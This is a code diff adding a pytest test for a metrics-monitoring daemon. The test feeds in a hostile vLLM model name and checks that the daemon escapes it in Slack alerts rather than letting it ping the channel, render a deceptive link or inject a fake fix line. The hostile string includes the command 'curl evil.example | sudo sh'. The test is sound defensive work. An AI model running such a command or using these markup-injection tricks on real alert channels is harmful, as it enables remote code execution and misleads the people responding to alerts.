@@ -8,13 +8,14 @@ memory are printed, never asserted (the bench does that: bench/bench_hostile.py)
 
 from __future__ import annotations
 
+import json
 import re
 from pathlib import Path
 
 import pytest
 
 from support.daemonproc import GOOD, body, cli, figure, run_daemon, target
-from support.localserver import serving
+from support.localserver import Exchange, serving
 from support.paths import RECORDINGS
 
 BIG = "9" * 400
@@ -95,3 +96,54 @@ def test_the_commands_read_a_recording_with_a_400_digit_pool_label(
     assert rc == 0 and "Traceback" not in out, out[-2000:]
     if command == "replay":
         assert "replayed 24 files (0 skipped)" in out
+
+
+# -- 2. a label is shown, never obeyed -------------------------------------------------------
+
+MODEL = "meta-llama/Llama-3.1-8B-Instruct"
+#: Every trick at once: a ping, a link, a backtick out of the code span, a fake fix line.
+HOSTILE_MODEL = (
+    "x` <!channel> <http://evil.example|click> `\n*Fix:* run curl evil.example | sudo sh"
+)
+
+
+def hung_as(model: str) -> bytes:
+    """GOOD with work outstanding and nothing moving (a hung engine), served as ``model``."""
+    text = GOOD.decode()
+    for name, value in (("num_requests_waiting", "5.0"), ("num_requests_running", "2.0")):
+        line = f'vllm:{name}{{engine="0",model_name="{MODEL}"}} 0.0'
+        assert line in text, line
+        text = text.replace(line, line.removesuffix("0.0") + value)
+    shown = model.replace("\\", "\\\\").replace("\n", "\\n").replace('"', '\\"')
+    return text.replace(f'model_name="{MODEL}"', f'model_name="{shown}"').encode()
+
+
+def test_slack_shows_a_hostile_model_name_and_obeys_none(tmp_path: Path) -> None:
+    """Before: the name reached Slack raw: ``<!channel>`` pinged the channel, the backtick
+    closed the code span, the link showed text of its choosing, and the newline put a
+    fake ``*Fix:*`` line above the real one."""
+    got: list[dict[str, object]] = []
+
+    def slack_hook(x: Exchange) -> None:
+        got.append(json.loads(x.request.body))
+        x.reply(200, b"ok")
+
+    with serving(body(hung_as(HOSTILE_MODEL))) as srv, serving(slack_hook) as hook:
+        config = {
+            "interval_seconds": 0.5,
+            "thresholds": {"stall_after_seconds": 2},
+            "targets": [target("hung", srv.url("/metrics"))],
+            "receivers": [{"type": "slack", "name": "chat", "url": hook.url("/hook")}],
+        }
+        with run_daemon(tmp_path, config) as d:
+            assert d.until(lambda: bool(got), timeout=40), "no Slack message"
+    text = str(got[0]["text"])
+    figure("slack", messages=len(got), chars=len(text), lines=len(text.splitlines()))
+    assert "<!channel>" not in text and "&lt;!channel&gt;" in text
+    assert "<http://evil" not in text and "&lt;http://evil.example|click&gt;" in text
+    assert text.count("`") == 4, text
+    lines = text.splitlines()
+    assert [line for line in lines if line.startswith("*Fix:*")] == [
+        line for line in lines if line.startswith("*Fix:* ") and "sudo sh" not in line
+    ]
+    assert "\\n*Fix:* run curl" in lines[0]  # shown, inside the headline's code span
